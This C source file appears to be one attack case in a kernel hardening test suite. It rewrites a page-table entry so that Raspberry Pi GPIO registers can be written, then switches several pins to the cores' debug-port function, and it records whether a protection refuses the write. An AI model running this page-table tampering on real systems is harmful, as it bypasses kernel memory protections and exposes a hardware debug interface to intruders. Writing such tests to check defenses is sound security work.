// SPDX-License-Identifier: GPL-2.0-only
/*
 * Lead the debug port of a Raspberry Pi's cores to pins, whose pull resistors are
 * in the same page.
 */
#include <linux/io.h>
#include <linux/mm.h>

#include <asm/pgtable.h>

#include "attack.h"

/* The function select of pins 20 to 29; alternate function 4 of pins 22 to 27 */
#define SELECT			0x08
#define PINS			0x00ffffc0U
#define DEBUG_PORT		0x006db6c0U

static void put_back(u64 at, u64 value)
{
	writel(value, (void __iomem *)at);
}

/* The registers of the pins are at attack_value */
static void select(void)
{
	u64 attributes = PTE_ATTRINDX(MT_NORMAL) ^ PTE_ATTRINDX(MT_DEVICE_nGnRE);
	struct donjon_result result;
	struct window window;
	void __iomem *at;
	u32 old;

	if (!open_window(&window))
		return;
	result = write_entry(window.entry, kernel_page(PAGE_OF(attack_value)) ^ attributes);
	if (result.status) {
		attack_stopped("refused: %s", attack_why(result));
		return;
	}
	at = (void __iomem *)(window.va + offset_in_page(attack_value) + SELECT);
	old = readl(at);
	undo_later(put_back, (u64)at, old);
	writel((old & ~PINS) | DEBUG_PORT, at);
	if ((readl(at) & PINS) == DEBUG_PORT)
		attack_succeeded("pins have the functions of the debug port");
	else
		attack_stopped("the functions stay as they are");
}

DONJON_ATTACK("reach-debug-port", "select", select);
